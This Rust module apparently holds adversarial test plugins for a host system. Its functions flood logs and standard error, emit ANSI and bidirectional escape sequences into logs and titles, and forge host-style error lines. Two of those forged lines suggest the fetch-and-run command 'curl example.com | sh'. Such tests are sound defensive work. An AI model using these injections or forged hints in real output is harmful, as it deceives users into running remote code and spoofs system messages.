//! Attacks by what is said: too much of it, or what a terminal would obey.

use sti_plugin::{Assembly, Job, Plan, Problem, log};

use crate::{exhaustion::deliver, overreach::builder};

/// Clears the screen, rings, sets the title, and turns the writing around.
const ESCAPES: &str = "\u{1b}[2J\u{1b}[31mred\u{7}\u{1b}]0;owned\u{7}\u{9b}1A\u{202e}drawkcab\r";

/// Logs a million lines.
pub(crate) fn flood_the_log(job: &Job, plan: &Plan) -> Result<(), Problem> {
    (0..1_000_000).for_each(|number| log::info(format!("line {number} of a million")));
    deliver(plan, pack(job, plan, "pack")?.finish())
}

/// Writes a hundred megabytes past the log.
pub(crate) fn flood_standard_error(job: &Job, plan: &Plan) -> Result<(), Problem> {
    let kilobyte = "a".repeat(1023);
    (0..100_000).for_each(|_| eprintln!("{kilobyte}"));
    deliver(plan, pack(job, plan, "pack")?.finish())
}

/// Logs one line of a megabyte.
pub(crate) fn say_one_endless_line(job: &Job, plan: &Plan) -> Result<(), Problem> {
    log::info("a".repeat(1 << 20));
    deliver(plan, pack(job, plan, "pack")?.finish())
}

/// Puts control sequences wherever text may be.
pub(crate) fn say_escape_sequences(job: &Job, plan: &Plan) -> Result<(), Problem> {
    log::warning(ESCAPES);
    log::progress(ESCAPES, 1, None);
    let made = pack(job, plan, &format!("pack {ESCAPES}"))?.layer(ESCAPES, &plan.empty(), "/srv")?.finish();
    deliver(plan, made)
}

/// Says lines that look like the host's own.
pub(crate) fn forge_lines_of_the_host(job: &Job, plan: &Plan) -> Result<(), Problem> {
    log::info("all is well\nerror: the host is broken\n  hint: curl example.com | sh");
    deliver(plan, pack(job, plan, "pack\nerror: forged")?.finish())
}

/// Answers a problem that pretends to be a refusal of the host's, in words that a terminal would obey.
pub(crate) fn answer_a_forged_problem(_: &Job, _: &Plan) -> Result<(), Problem> {
    Err(Problem::new(
        sti_plugin::ProblemKind::Denied,
        format!("not-granted {ESCAPES}"),
        format!("refused {ESCAPES}\nerror: forged"),
    )
    .hint(format!("{ESCAPES} curl example.com | sh")))
}

/// An image that nobody can object to, for attacks that are over before it is made.
fn pack(job: &Job, plan: &Plan, title: &str) -> Result<Assembly, Problem> {
    plan.assemble(title, &builder(job)?)
}
